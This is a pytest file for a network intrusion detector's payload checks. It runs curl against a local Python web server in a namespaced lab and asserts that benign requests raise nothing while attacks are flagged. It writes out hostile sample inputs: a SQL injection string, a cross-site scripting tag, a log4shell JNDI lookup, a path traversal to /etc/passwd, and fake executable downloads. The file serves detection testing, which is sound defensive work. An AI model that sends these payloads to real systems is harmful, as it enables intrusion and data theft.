"""Payload checks on traffic of real programs, captured live in the lab: curl against Python's
http.server in another namespace, first ordinary requests (nothing found), then SQL
injection, cross-site scripting, a log4shell lookup, path traversal and two executables
downloaded (each found)."""

from __future__ import annotations

import os
import shutil
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from netids.detect.decode import decode
from netids.detect.payload import PayloadFinding, PayloadInspector
from tests.detect.test_behaviour_lab import capture_batches, wait_for_port

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the lab needs root (namespaces)")
PORT = 8088


async def capture_findings(lab_net, action: Callable[[], None]) -> tuple[
        list[PayloadFinding], PayloadInspector]:
    """Capture the web server's traffic on the lab's bridge while ``action`` runs; what the
    payload checks find in it."""
    inspector, found = PayloadInspector(), []
    await capture_batches(lab_net, f"tcp port {PORT}", action,
                          lambda batch: found.extend(inspector.inspect(batch, decode(batch))))
    return found, inspector


@pytest.fixture
def web_server(lab_net, tmp_path: Path) -> Iterator[str]:
    """Python's http.server on host b serving a page, a real ELF (/bin/true) and a file that
    starts like a Windows executable; its URL. Stopped afterwards."""
    if not shutil.which("curl"):
        pytest.skip("needs curl (apt)")
    root = tmp_path / "www"
    root.mkdir()
    (root / "index.html").write_text("<html><body>hello</body></html>\n")
    shutil.copy("/bin/true", root / "tool")
    (root / "setup.bin").write_bytes(b"MZ\x90\x00\x03" + bytes(59) + b"PE\x00\x00" * 64)
    server = lab_net.popen("b", sys.executable, "-m", "http.server", str(PORT), "--bind",
                           lab_net.ip("b"), "--directory", str(root))
    try:
        wait_for_port(lab_net, "a", lab_net.ip("b"), PORT)
        yield f"http://{lab_net.ip('b')}:{PORT}"
    finally:
        server.terminate()
        server.wait(timeout=10)


def curl(lab_net, *args: str) -> None:
    lab_net.run("a", "curl", "-s", "-o", "/dev/null", "--max-time", "5", *args)


async def test_ordinary_requests_with_curl_raise_nothing(lab_net, web_server: str) -> None:
    def browse() -> None:
        curl(lab_net, f"{web_server}/")
        curl(lab_net, f"{web_server}/index.html?q=network+monitoring&page=2&sort=-date")
        curl(lab_net, "-G", "--data-urlencode", "name=O'Reilly & Sons", f"{web_server}/")
        curl(lab_net, "-G", "--data-urlencode", "expr=a < b and c > d", f"{web_server}/")
        curl(lab_net, "-d", "user=alice&comment=it's fine, 100% sure", f"{web_server}/")
        curl(lab_net, "-H", "User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0",
             f"{web_server}/index.html")

    found, inspector = await capture_findings(lab_net, browse)
    assert [f.why for f in found] == []
    assert inspector.stats.parsed >= 12  # six requests and their answers were read


async def test_attacks_and_downloads_with_curl_are_each_found(lab_net, web_server: str) -> None:
    def attack() -> None:
        curl(lab_net, "-G", "--data-urlencode", "id=' OR 1=1 --", f"{web_server}/item")
        curl(lab_net, "-G", "--data-urlencode", "q=<script>alert(1)</script>",
             f"{web_server}/search")
        curl(lab_net, "-H", "User-Agent: ${jndi:ldap://x/a}", f"{web_server}/")
        curl(lab_net, "--path-as-is", f"{web_server}/../../etc/passwd")
        curl(lab_net, f"{web_server}/tool")
        curl(lab_net, f"{web_server}/setup.bin")

    found, _ = await capture_findings(lab_net, attack)
    a, b = lab_net.ip("a"), lab_net.ip("b")
    seen = {(f.kind, f.what, f.src, f.dst) for f in found}
    assert seen == {
        ("web_attack", "SQL injection", a, b), ("web_attack", "cross-site scripting", a, b),
        ("web_attack", "lookup injection (log4shell-style)", a, b),
        ("web_attack", "path traversal", a, b),
        ("malware_download", "Linux executable (ELF)", b, a),
        ("malware_download", "Windows executable (MZ)", b, a)}
    whys = " | ".join(f.why for f in found)
    for evidence in ("\"' OR 1=1 --\"", "<script>alert(1)</script>", "${jndi:ldap://x/a}",
                     "/../../etc/passwd", "(\"HTTP/1.0 200 OK\")"):
        assert evidence in whys
